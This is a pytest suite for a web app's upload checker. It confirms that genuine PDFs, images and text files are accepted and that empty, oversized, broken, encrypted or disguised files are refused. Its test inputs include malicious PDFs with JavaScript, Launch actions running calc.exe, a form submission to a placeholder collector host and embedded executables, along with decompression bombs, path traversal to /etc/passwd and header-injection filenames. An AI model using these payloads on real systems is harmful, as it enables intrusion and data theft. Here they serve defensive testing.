"""What people upload: honest files are taken, dangerous and broken ones are refused for the right reason."""

import random
import unicodedata
from hashlib import sha256
from io import BytesIO

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Encryption, Name, String
from PIL import Image, ImageFile

from dxday.adapters import uploads
from dxday.adapters.uploads import CheckedUpload, Kind, check_upload, clean_name

EVERY_KIND = frozenset(Kind)
MEGABYTE = 1_000_000


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    out = BytesIO()
    noise = random.Random(10).randbytes(size[0] * size[1] * 3)
    Image.frombytes("RGB", size, noise).save(out, kind)
    return out.getvalue()


def pdf(change=None, **options) -> bytes:
    """Return a PDF of one empty page, changed by a function of the open file."""
    out = BytesIO()
    with pikepdf.new() as file:
        file.add_blank_page(page_size=(595, 842))
        if change:
            change(file)
        file.save(out, **options)
    return out.getvalue()


def check(
    data: bytes, name: str = "minh chứng.pdf", *, allowed=EVERY_KIND, max_bytes=MEGABYTE
) -> CheckedUpload:
    return check_upload(name, data, allowed=allowed, max_bytes=max_bytes)


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("minh chứng.pdf", pdf(), Kind.PDF),
        ("ảnh.png", picture("PNG"), Kind.PNG),
        ("ảnh.jpeg", picture("JPEG"), Kind.JPEG),
        ("ghi chú.txt", "\ufeffTiếng Việt\r\n\tvà हिन्दी\n".encode(), Kind.TEXT),
    ],
)
def test_an_honest_file_is_taken_as_what_it_is(name, data, kind):
    assert check(data, name) == CheckedUpload(kind, kind.value, name, len(data), sha256(data).hexdigest())


def test_the_content_decides_and_the_name_follows():
    checked = check(picture("PNG"), "ảnh.pdf")

    assert (checked.kind, checked.media_type, checked.filename) == (Kind.PNG, "image/png", "ảnh.pdf.png")


def test_an_empty_file_is_refused():
    with pytest.raises(uploads.UploadEmpty):
        check(b"")


def test_the_limit_itself_is_allowed_and_one_byte_more_is_not():
    data = b"x" * 1000

    assert check(data, max_bytes=1000).size == 1000
    with pytest.raises(uploads.UploadTooLarge) as refused:
        check(data, max_bytes=999)
    assert refused.value.facts["limit"] == 999


@pytest.mark.parametrize(("limit", "words"), [(20 * MEGABYTE, "20 MB"), (500_000, "500 kB"), (10, "1 kB")])
def test_the_limit_is_told_in_words(limit, words):
    assert str(uploads.UploadTooLarge(limit=limit)) == f"The file is too large: at most {words} are taken."


def test_a_kind_that_is_not_taken_is_named_by_what_it_is():
    with pytest.raises(uploads.UploadNotAllowed) as refused:
        check(picture("PNG"), allowed=frozenset({Kind.PDF, Kind.JPEG}))

    assert refused.value.facts["found"] is Kind.PNG
    assert str(refused.value) == (
        "Files of this kind are not taken here, whatever they are called. Taken are: JPEG, PDF."
    )


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04 an office file",
        b"MZ\x90\x00 a program",
        b"GIF89a\x01\x00",
        b"\xff\xfex\x00 utf-16",
        "một dòng \x1b[31m".encode(),
        b"latin-1: \xe9",
        b"\x00",
    ],
)
def test_content_that_nobody_knows_is_refused(data):
    with pytest.raises(uploads.UploadNotAllowed) as refused:
        check(data)

    assert refused.value.facts["found"] is None


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_a_picture_that_was_cut_off_is_broken(kind):
    data = picture(kind, (200, 200))
    ImageFile.LOAD_TRUNCATED_IMAGES = True  # as WeasyPrint leaves it

    with pytest.raises(uploads.UploadBroken):
        check(data[: len(data) // 2])


@given(st.data())
def test_a_picture_with_a_wrong_byte_is_taken_or_broken_but_nothing_else(data):
    good = picture(data.draw(st.sampled_from(["PNG", "JPEG"])), (8, 8))
    place = data.draw(st.integers(8, len(good) - 1))
    damaged = good[:place] + bytes([data.draw(st.integers(0, 255))]) + good[place + 1 :]

    try:
        checked = check(damaged)
    except (uploads.UploadBroken, uploads.UploadTooManyPixels):
        return
    assert checked.size == len(good)


def test_a_picture_that_unfolds_to_too_many_pixels_is_refused_unopened():
    out = BytesIO()
    Image.new("1", (10_000, 5_001)).save(out, "PNG")
    assert len(out.getvalue()) < 10_000

    with pytest.raises(uploads.UploadTooManyPixels) as refused:
        check(out.getvalue())
    assert refused.value.facts["megapixels"] == 50


@pytest.mark.parametrize("size", [(12_000, 8_000), (30_000, 30_000)])
def test_a_bomb_that_pillow_itself_knows_is_refused_too(size):
    out = BytesIO()
    Image.new("1", size).save(out, "PNG")

    with pytest.raises(uploads.UploadTooManyPixels):
        check(out.getvalue())


@pytest.mark.parametrize("data", [b"%PDF-1.7\n", b"%PDF-1.7\nnothing of it\n%%EOF\n", pdf()[:200]])
def test_a_pdf_that_does_not_open_is_broken(data):
    with pytest.raises(uploads.UploadBroken):
        check(data)


def test_a_pdf_without_pages_is_broken():
    def tear_out(file):
        del file.pages[0]

    with pytest.raises(uploads.UploadBroken):
        check(pdf(tear_out))


def test_a_pdf_behind_something_else_is_no_pdf():
    with pytest.raises(uploads.UploadNotAllowed):
        check(b"\x00\x01" + pdf())


@pytest.mark.parametrize(
    "encryption",
    [Encryption(owner="o", user="u"), Encryption(owner="o", user="")],
    ids=["to open", "to change"],
)
def test_a_protected_pdf_is_refused(encryption):
    with pytest.raises(uploads.UploadLocked):
        check(pdf(encryption=encryption))


def run_on_opening(file):
    file.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def run_named(file):
    file.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), file.make_indirect(Dictionary())]))
    )


def run_deep_inside(file):
    inner = Dictionary(S=Name.JavaScript)
    file.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, A=Dictionary(Next=Array([Dictionary(), inner])))]
    )


def run_by_a_name_kept_apart(file):
    kind = file.make_indirect(Name.Launch)
    file.pages[0].obj.AA = Dictionary(O=Dictionary(S=kind, F=String("calc.exe")))


def run_where_no_page_looks(file):
    file.make_indirect(Dictionary(S=Name.Launch))
    file.Root.Hidden = file.make_indirect(Array([file.objects[-1]]))


def send_a_form(file):
    file.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("http://collector.example/"))


def carry_a_file(file):
    file.attachments["report.exe"] = b"MZ"


def carry_a_form_of_scripts(file):
    file.Root.AcroForm = Dictionary(XFA=Array([]))


@pytest.mark.parametrize(
    "change",
    [
        run_on_opening,
        run_named,
        run_deep_inside,
        run_by_a_name_kept_apart,
        run_where_no_page_looks,
        send_a_form,
        carry_a_file,
        carry_a_form_of_scripts,
    ],
)
@pytest.mark.parametrize("streams", [pikepdf.ObjectStreamMode.generate, pikepdf.ObjectStreamMode.disable])
def test_a_pdf_that_acts_or_carries_is_refused(change, streams):
    with pytest.raises(uploads.UploadHasScript):
        check(pdf(change, object_stream_mode=streams))


def test_a_pdf_with_a_link_a_form_field_and_bookmarks_is_taken():
    def furnish(file):
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
        link.A = Dictionary(S=Name.URI, URI=String("https://example.org/"))
        file.pages[0].obj.Annots = Array([link])
        file.Root.AcroForm = Dictionary(Fields=Array([]))
        with file.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Trang 1", 0))

    assert check(pdf(furnish)).kind is Kind.PDF


def test_a_pdf_whose_objects_unfold_without_end_is_broken_and_does_not_fill_the_memory():
    def swell(file):
        file.Root.Padding = file.make_indirect(Dictionary(X=String("0" * 80_000_000)))

    data = pdf(swell, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert len(data) < 200_000

    with pytest.raises(uploads.UploadBroken):
        check(data)


@pytest.mark.parametrize(
    ("given_name", "kind", "clean"),
    [
        ("báo cáo.pdf", Kind.PDF, "báo cáo.pdf"),
        ("bao\u0301 ca\u0301o.PDF", Kind.PDF, "baó cáo.pdf"),
        ("../../etc/passwd", Kind.TEXT, "passwd.txt"),
        ("C:\\Users\\Mẫu\\ảnh.jpg", Kind.JPEG, "ảnh.jpg"),
        ("a\r\nSet-Cookie: x.pdf", Kind.PDF, "aSet-Cookie_ x.pdf"),
        ("gnp.\u202efdp.exe", Kind.PDF, "gnp.fdp.exe.pdf"),
        ("", Kind.PDF, "file.pdf"),
        ("...", Kind.PNG, "file.png"),
        (".pdf", Kind.PDF, "pdf.pdf"),
        ("  .htaccess ", Kind.TEXT, "htaccess.txt"),
        ("số liệu.csv", Kind.TEXT, "số liệu.csv"),
        ('a<b>"c"|?*.pdf', Kind.PDF, "a_b__c____.pdf"),
    ],
)
def test_a_name_is_cleaned(given_name, kind, clean):
    assert clean_name(given_name, kind) == clean


@given(st.text(max_size=300), st.sampled_from(Kind))
def test_every_clean_name_is_short_visible_and_stays_as_it_is(name, kind):
    clean = clean_name(name, kind)

    assert len(clean) <= 120
    assert not any(
        unicodedata.category(letter)[0] == "C" and unicodedata.category(letter) != "Cn" for letter in clean
    )
    assert set(clean) & set('/\\<>:"|?*') == set()
    assert clean_name(clean, kind) == clean
